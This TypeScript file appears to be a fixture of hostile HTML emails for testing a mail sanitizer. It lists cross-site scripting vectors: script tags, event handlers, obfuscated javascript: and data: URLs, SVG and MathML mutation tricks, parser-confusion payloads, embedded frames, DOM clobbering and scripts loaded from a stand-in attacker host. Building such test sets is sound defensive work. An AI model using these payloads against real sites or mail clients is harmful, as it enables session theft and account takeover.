import { ATTACK, ATTACK_IN_ATTRIBUTE, EVIL, type HostileMail } from './hostileMail.ts';

const URL_SCHEMES = [
  `javascript:${ATTACK_IN_ATTRIBUTE}`,
  `JaVaScRiPt:${ATTACK_IN_ATTRIBUTE}`,
  `java&#10;script:${ATTACK_IN_ATTRIBUTE}`,
  `&#1;javascript:${ATTACK_IN_ATTRIBUTE}`,
  `&#x6A;avascript&colon;${ATTACK_IN_ATTRIBUTE}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${ATTACK_IN_ATTRIBUTE}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${ATTACK}</script>`).toString('base64')}`,
  `blob:${EVIL}/1`,
  `file:///etc/passwd`,
];

/** Mails that want to run something. */
export const SCRIPTS: readonly HostileMail[] = [
  { name: 'a script', html: `<p>Hi</p><script>${ATTACK}</script>` },
  { name: 'a script from elsewhere', html: `<script src="${EVIL}/a.js"></script><p>Hi</p>` },
  { name: 'a script of another case', html: `<ScRiPt/x>${ATTACK}</sCrIpT ><p>Hi</p>` },
  { name: 'a script inside a script', html: `<scr<script>ipt>${ATTACK}</scr</script>ipt><p>Hi</p>` },
  {
    name: 'a module',
    html: `<script type="module">${ATTACK}</script><link rel="modulepreload" href="${EVIL}/m.js">`,
  },
  {
    name: 'handlers',
    html: `<img src="x" onerror="${ATTACK_IN_ATTRIBUTE}"><body onload="${ATTACK_IN_ATTRIBUTE}"><div onmouseover="${ATTACK_IN_ATTRIBUTE}" onclick="${ATTACK_IN_ATTRIBUTE}" onfocus="${ATTACK_IN_ATTRIBUTE}" tabindex="1" autofocus>Hi</div><details open ontoggle="${ATTACK_IN_ATTRIBUTE}">x</details><video><source onerror="${ATTACK_IN_ATTRIBUTE}"></video><marquee onstart="${ATTACK_IN_ATTRIBUTE}">x</marquee>`,
  },
  {
    name: 'handlers without spaces',
    html: `<img/src="x"/onerror="${ATTACK_IN_ATTRIBUTE}"><svg/onload="${ATTACK_IN_ATTRIBUTE}"><p style="animation-name:x" onanimationstart="${ATTACK_IN_ATTRIBUTE}">Hi</p>`,
  },
  {
    name: 'addresses that run',
    html: URL_SCHEMES.map(
      (url) =>
        `<a href="${url}">a link</a><img src="${url}"><table background="${url}"><tr><td background="${url}">x</td></tr></table>`,
    ).join(''),
  },
  {
    name: 'svg',
    html: `<svg><script>${ATTACK}</script><animate onbegin="${ATTACK_IN_ATTRIBUTE}" attributeName="x" dur="1s"/><a xlink:href="javascript:${ATTACK_IN_ATTRIBUTE}"><text>x</text></a><foreignObject><img src="x" onerror="${ATTACK_IN_ATTRIBUTE}"></foreignObject><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${ATTACK_IN_ATTRIBUTE}</script></svg>#x"/></svg><p>Hi</p>`,
  },
  {
    name: 'mathml and its ways out',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ATTACK_IN_ATTRIBUTE}&gt;"></mglyph></table></mtext></math><form><math><mtext></form><form><mglyph><style></math><img src onerror="${ATTACK_IN_ATTRIBUTE}"></style></mglyph></form><p>Hi</p>`,
  },
  {
    name: 'text that turns into elements when it is read twice',
    html: `<noscript><p title="</noscript><img src=x onerror=${ATTACK_IN_ATTRIBUTE}>"></noscript><textarea></textarea><title></title><xmp><img src=x onerror="${ATTACK_IN_ATTRIBUTE}"></xmp><template><img src=x onerror="${ATTACK_IN_ATTRIBUTE}"></template><!--><img src=x onerror="${ATTACK_IN_ATTRIBUTE}">--><![CDATA[<script>${ATTACK}</script>]]><p>Hi</p>`,
  },
  {
    name: 'pages inside the page',
    html: `<iframe src="javascript:${ATTACK_IN_ATTRIBUTE}"></iframe><iframe srcdoc="<script>${ATTACK_IN_ATTRIBUTE}</script>"></iframe><iframe src="/inbox"></iframe><object data="data:text/html,<script>${ATTACK_IN_ATTRIBUTE}</script>"></object><embed src="${EVIL}/a.swf"><applet code="x"></applet><portal src="${EVIL}"></portal><p>Hi</p>`,
  },
  {
    name: 'names that hide what the page has',
    html: `<form id="app"><input name="body"><input name="attributes"><input name="nodeName"></form><a id="firebase" name="firebase" href="${EVIL}">x</a><img name="currentScript"><img name="getElementById"><iframe name="hacked"></iframe><p id="main">Hi</p>`,
  },
];
